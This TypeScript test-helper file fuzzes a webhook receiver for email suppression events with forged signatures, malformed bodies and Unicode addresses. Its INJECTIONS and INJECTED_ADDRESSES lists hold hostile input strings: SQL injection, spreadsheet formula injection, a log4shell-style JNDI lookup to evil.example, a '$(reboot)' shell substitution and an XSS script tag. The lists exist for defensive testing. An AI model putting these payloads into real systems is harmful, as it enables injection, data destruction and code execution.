import fc from "fast-check";
import { Webhook } from "svix";
import { ACTIONABLE_TYPES } from "../../../src/events/resend.ts";
import { OTHER_SECRET, SECRET } from "../../helpers/config.ts";

/**
 * Arbitraries and checks for hostile input. Header values stay printable ASCII here (fetch's
 * Headers refuses anything else before it reaches the app); raw bytes in headers are tried
 * against the real daemon over a socket instead.
 */

/** Strings that mean something to SQL, a shell, a spreadsheet or a log reader. */
export const INJECTIONS = [
  "'; DROP TABLE suppressions; --",
  "Robert'); DELETE FROM suppression_events; --",
  '" OR "1"="1',
  "1 OR 1=1",
  "x' UNION SELECT svix_id FROM webhook_events --",
  '=HYPERLINK("http://evil.example","click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1,=2\n=3",
  '"=1"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style string, on purpose
  "${jndi:ldap://evil.example/a}",
  "{{email}}",
  "$(reboot)",
  "\u202egnp.exe",
  "\u0000nul",
  "line\nbreak",
  "<script>alert(1)</script>",
];

/** Local parts that are valid addresses and still start like a formula or carry SQL quotes. */
export const INJECTED_ADDRESSES = [
  "=1+2@inject.example",
  "+cmd@inject.example",
  "-2+3@inject.example",
  "'or'1'='1@inject.example",
  "x'--@inject.example",
  "%0a=1@inject.example",
  "a|b@inject.example",
  "{{email}}@inject.example",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder-looking address, on purpose
  "${x}@inject.example",
];

/** Unicode and IDN addresses, each with the key it must be stored under. */
export const UNICODE_ADDRESSES: [string, string][] = [
  ["josé@example.com", "josé@example.com"],
  ["jose\u0301@example.com", "josé@example.com"], // NFD: the same address as the line above
  ["JOSÉ@EXAMPLE.COM", "josé@example.com"],
  ["用户@例子.广告", "用户@例子.广告"],
  ["user@bücher.de", "user@bücher.de"],
  ["Ünïcødé <ÜSER@Bücher.DE>", "üser@bücher.de"],
  ["δοκιμή@παράδειγμα.δοκιμή", "δοκιμή@παράδειγμα.δοκιμή"],
  ["пользователь@пример.рф", "пользователь@пример.рф"],
  ["अजय@डाटा.भारत", "अजय@डाटा.भारत"],
  ["😀@emoji.example", "😀@emoji.example"],
];

/** Cells a spreadsheet would run as a formula (OWASP's list; csv.ts neutralises exactly these). */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180, written here rather than borrowed from the code under test. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n" || (ch === "\r" && text[i + 1] === "\n")) {
      if (ch === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/**
 * The original value of an exported cell: one apostrophe removed before a run of apostrophes that
 * ends in a formula character (what `suppressd import` does).
 */
export function unneutralise(cell: string): string {
  return /^'+[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
}

const printable = fc.string({
  unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
  maxLength: 60,
});

export interface Attempt {
  body: string;
  headers: Record<string, string>;
  why: string;
}

/**
 * Deliveries that are not correctly signed by SECRET: missing, duplicated, malformed or foreign
 * signature headers; a good signature over another id, timestamp or body, or by another secret;
 * correct signatures at timestamps far outside the five-minute tolerance.
 */
export function unsignedDelivery(): fc.Arbitrary<Attempt> {
  const body = fc.oneof(
    fc.constantFrom(...ACTIONABLE_TYPES).map((type) =>
      JSON.stringify({
        type,
        created_at: new Date().toISOString(),
        data: { to: ["victim@x.com"], email: "victim@x.com" },
      }),
    ),
    fc.json({ maxDepth: 3 }),
    printable,
  );
  const id = fc.oneof(
    fc.constant("msg_hostile"),
    printable.filter((s) => s.trim() !== ""),
    fc.constant("x".repeat(500)),
  );
  return fc
    .tuple(
      body,
      id,
      fc.integer({ min: 0, max: 11 }),
      printable,
      fc.integer({ min: 301, max: 3_000_000_000 }),
      fc.boolean(),
    )
    .map(([b, i, variant, junk, offset, past]) => {
      const now = new Date();
      const ts = String(Math.floor(now.getTime() / 1000));
      const good = (over: { id?: string; at?: Date; body?: string; secret?: string }) =>
        new Webhook(over.secret ?? SECRET).sign(over.id ?? i, over.at ?? now, over.body ?? b);
      // null leaves the header out (undefined would take the default).
      const headers = (sig: string | null, t: string | null = ts, svixId: string | null = i) => {
        const h: Record<string, string> = { "content-type": "application/json" };
        if (svixId !== null) h["svix-id"] = svixId;
        if (t !== null) h["svix-timestamp"] = t;
        if (sig !== null) h["svix-signature"] = sig;
        return h;
      };
      const shifted = new Date(now.getTime() + (past ? -1 : 1) * offset * 1000);
      const cases: [string, Record<string, string>][] = [
        ["no signature header", headers(null)],
        ["no timestamp header", headers(good({}), null)],
        ["no svix-id header", headers(good({}), ts, null)],
        ["a junk signature", headers(junk)],
        ["v1, and random base64", headers(`v1,${btoa(junk || "x")}`)],
        [
          "two junk signatures, as duplicated headers arrive",
          headers(`v1,${btoa(junk)}, v1,${btoa(`${junk}!`)}`),
        ],
        ["a good signature under another scheme", headers(good({}).replace("v1,", "v2,"))],
        ["signed by another secret", headers(good({ secret: OTHER_SECRET }))],
        ["signed for another svix-id", headers(good({ id: `${i}x` }))],
        ["signed over another body", headers(good({ body: `${b} ` }))],
        ["the signature of another timestamp", headers(good({}), String(Number(ts) + 1))],
        [
          `correctly signed ${Math.round(offset / 60)} min in the ${past ? "past" : "future"}`,
          headers(good({ at: shifted }), String(Math.floor(shifted.getTime() / 1000))),
        ],
      ];
      const [why, h] = cases[variant] as [string, Record<string, string>];
      return { body: b, headers: h, why };
    });
}

/** Signed bodies that are hard to read: the answer must be 200 (stored or quarantined) or 413. */
export function hostileBody(): fc.Arbitrary<{ bytes: Uint8Array; why: string }> {
  const enc = new TextEncoder();
  const at = new Date().toISOString();
  const event = (type: string, data: unknown, createdAt: unknown = at) =>
    enc.encode(JSON.stringify({ type, created_at: createdAt, data }));
  const deep = fc.integer({ min: 1, max: 120_000 }).map((d) => ({
    bytes: enc.encode(`${"[".repeat(d)}${"]".repeat(d)}`),
    why: `arrays nested ${d} deep`,
  }));
  const deepInData = fc.integer({ min: 1, max: 25_000 }).map((d) => ({
    bytes: enc.encode(
      `{"type":"email.bounced","created_at":"${at}","data":{"to":["deep@x.com"],"bounce":${'{"type":'.repeat(d)}"Permanent"${"}".repeat(d)}}}`,
    ),
    why: `bounce.type nested ${d} deep`,
  }));
  const recipients = fc.integer({ min: 0, max: 10_000 }).map((n) => ({
    bytes: event("email.bounced", {
      to: Array.from({ length: n }, (_, i) => `r${i}@x.co`),
      bounce: { type: "Permanent" },
    }),
    why: `a 'to' with ${n} entries`,
  }));
  const huge = fc
    .tuple(
      fc.constantFrom("type", "to", "email", "origin", "created_at"),
      fc.integer({ min: 1000, max: 250_000 }),
    )
    .map(([field, n]) => {
      const big = "A".repeat(n);
      const bytes =
        field === "type"
          ? event(big, {})
          : field === "to"
            ? event("email.complained", { to: [big, "ok@x.com"] })
            : field === "created_at"
              ? event("email.complained", { to: ["ok@x.com"] }, big)
              : event("suppression.added", {
                  email: field === "email" ? big : "ok@x.com",
                  origin: field === "origin" ? big : "bounce",
                });
      return { bytes, why: `a ${n}-character ${field}` };
    });
  const prototypeKeys = fc
    .tuple(
      fc.constantFrom(
        "constructor",
        "toString",
        "__proto__",
        "hasOwnProperty",
        "valueOf",
        "isPrototypeOf",
        "__defineGetter__",
      ),
      fc.constantFrom("type", "origin"),
    )
    .map(([key, field]) => ({
      bytes:
        field === "type"
          ? event(key, { to: ["proto@x.com"], email: "proto@x.com" })
          : event("suppression.added", { email: "proto@x.com", origin: key }),
      why: `${field} "${key}"`,
    }));
  const anyEvent = fc
    .record({
      type: fc.oneof(
        fc.constantFrom(...ACTIONABLE_TYPES, "email.opened", "domain.updated"),
        printable,
        anyText(),
      ),
      created_at: fc.oneof(
        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
        fc.constantFrom(
          "9999-12-31T23:59:59Z",
          "0001-01-01T00:00:00Z",
          "yesterday",
          "",
          "2026-02-30T00:00:00Z",
        ),
        fc.integer(),
        fc.constant(null),
      ),
      data: fc.oneof(
        fc.jsonValue({ maxDepth: 4 }),
        fc.record(
          {
            to: fc.oneof(
              fc.array(
                fc.oneof(
                  fc.emailAddress(),
                  fc.string({ unit: "grapheme", maxLength: 40 }),
                  fc.constantFrom(...INJECTIONS),
                  anyAddress(),
                ),
                { maxLength: 120 },
              ),
              fc.string({ maxLength: 200 }),
              fc.jsonValue({ maxDepth: 2 }),
            ),
            email: fc.oneof(
              fc.emailAddress(),
              fc.constantFrom(...INJECTED_ADDRESSES),
              fc.jsonValue({ maxDepth: 1 }),
            ),
            origin: fc.oneof(fc.constantFrom("bounce", "complaint", "manual"), printable),
            unsubscribed: fc.oneof(fc.boolean(), fc.jsonValue({ maxDepth: 1 })),
            bounce: fc.oneof(
              fc.record({ type: fc.oneof(fc.constantFrom("Permanent", "hard", "Transient"), printable) }),
              fc.jsonValue({ maxDepth: 2 }),
            ),
          },
          { requiredKeys: [] },
        ),
      ),
    })
    .map((e) => ({
      bytes: enc.encode(JSON.stringify(e)),
      why: `an event of type ${JSON.stringify(e.type).slice(0, 40)}`,
    }));
  const bytes = fc
    .uint8Array({ maxLength: 4000 })
    .map((b) => ({ bytes: b, why: `${b.length} random bytes` }));
  const invalidUtf8 = fc
    .tuple(
      fc.constantFrom(...ACTIONABLE_TYPES),
      fc.constantFrom([0xff], [0xc3, 0x28], [0xe2, 0x82], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80]),
    )
    .map(([type, bad]) => {
      const text = enc.encode(
        JSON.stringify({ type, created_at: at, data: { to: ["utf8@x.com"], email: "utf8@x.com" } }),
      );
      const cut = text.indexOf(0x40); // inside the address: "utf8@…" becomes invalid UTF-8
      return {
        bytes: new Uint8Array([...text.slice(0, cut), ...bad, ...text.slice(cut)]),
        why: `${type} with invalid UTF-8 ${bad.map((x) => x.toString(16)).join(" ")}`,
      };
    });
  return fc.oneof(deep, deepInData, recipients, huge, prototypeKeys, anyEvent, bytes, invalidUtf8);
}

/** Headers Resend would send for `bytes` (signed over the text as the receiver decodes it). */
export function signBytes(bytes: Uint8Array, id: string): Record<string, string> {
  const text = new TextDecoder("utf-8").decode(bytes);
  const at = new Date();
  return {
    "content-type": "application/json",
    "svix-id": id,
    "svix-timestamp": String(Math.floor(at.getTime() / 1000)),
    "svix-signature": new Webhook(SECRET).sign(id, at, text),
  };
}

/**
 * A property's run count, multiplied by RELIABILITY_RUNS (bench/soak.ts raises it; CI leaves it
 * at 1), so the same properties serve a quick CI pass and a long search.
 */
export function runs(n: number): number {
  return Math.max(1, Math.round(n * runsFactor()));
}

/** A test's timeout for `runs()`-scaled properties: 30 s per factor of runs. */
export function propertyTimeout(): number {
  return 30_000 * runsFactor();
}

function runsFactor(): number {
  const factor = Number(process.env.RELIABILITY_RUNS ?? 1);
  return Number.isFinite(factor) && factor > 0 ? factor : 1;
}

/** Unpaired halves of a surrogate pair: text JSON can carry (`"\ud800"`) but UTF-8 cannot. */
export const LONE_SURROGATE = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

/** Unicode's non-characters (U+FDD0–U+FDEF and the last two code points of every plane). */
export const NON_CHARACTER = fc.oneof(
  fc.integer({ min: 0xfdd0, max: 0xfdef }).map((c) => String.fromCharCode(c)),
  fc
    .tuple(fc.integer({ min: 0, max: 16 }), fc.boolean())
    .map(([plane, last]) => String.fromCodePoint(plane * 0x10000 + (last ? 0xffff : 0xfffe))),
);

/**
 * Any text a client can put in JSON: every code point (fc's "binary" unit), lone surrogates and
 * non-characters on purpose, strings cut in the middle of an emoji as clients cut them, and the
 * injection strings.
 */
export function anyText(maxLength = 40): fc.Arbitrary<string> {
  const unit = fc.oneof(
    { weight: 6, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 1 }) },
    { weight: 2, arbitrary: LONE_SURROGATE },
    { weight: 1, arbitrary: NON_CHARACTER },
  );
  return fc.oneof(
    { weight: 4, arbitrary: fc.string({ unit, maxLength }) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.string({ unit: "grapheme", maxLength }), fc.nat())
        .map(([s, n]) => s.slice(0, n % (s.length + 1))),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(...INJECTIONS, "Customer asked to stop 😀 ".repeat(3).slice(0, 49)),
    },
  );
}

/** An address-like string whose local part and domain are `anyText`. */
export function anyAddress(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.tuple(anyText(12), fc.constantFrom("x.com", "例子.广告", "bücher.de")).map(([l, d]) => `${l}@${d}`),
    fc.tuple(anyText(8), anyText(8)).map(([l, d]) => `${l}@${d}.example`),
    // Well-formed and an address: non-characters and any grapheme get stored, then read back.
    fc
      .tuple(
        fc.stringMatching(/^[a-z0-9]{1,6}$/),
        NON_CHARACTER,
        fc.string({ unit: "grapheme", maxLength: 4 }),
      )
      .map(([a, nc, b]) => `${a}${nc}${b}@x.com`),
    anyText(30),
  );
}

/** Percent-encodes the UTF-8 of `s`; a lone surrogate as the three bytes a lax encoder writes. */
export function pathPart(s: string): string {
  let out = "";
  for (const ch of s) {
    const c = ch.codePointAt(0) as number;
    if (c >= 0xd800 && c <= 0xdfff) {
      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join("");
    } else out += encodeURIComponent(ch);
  }
  return out;
}
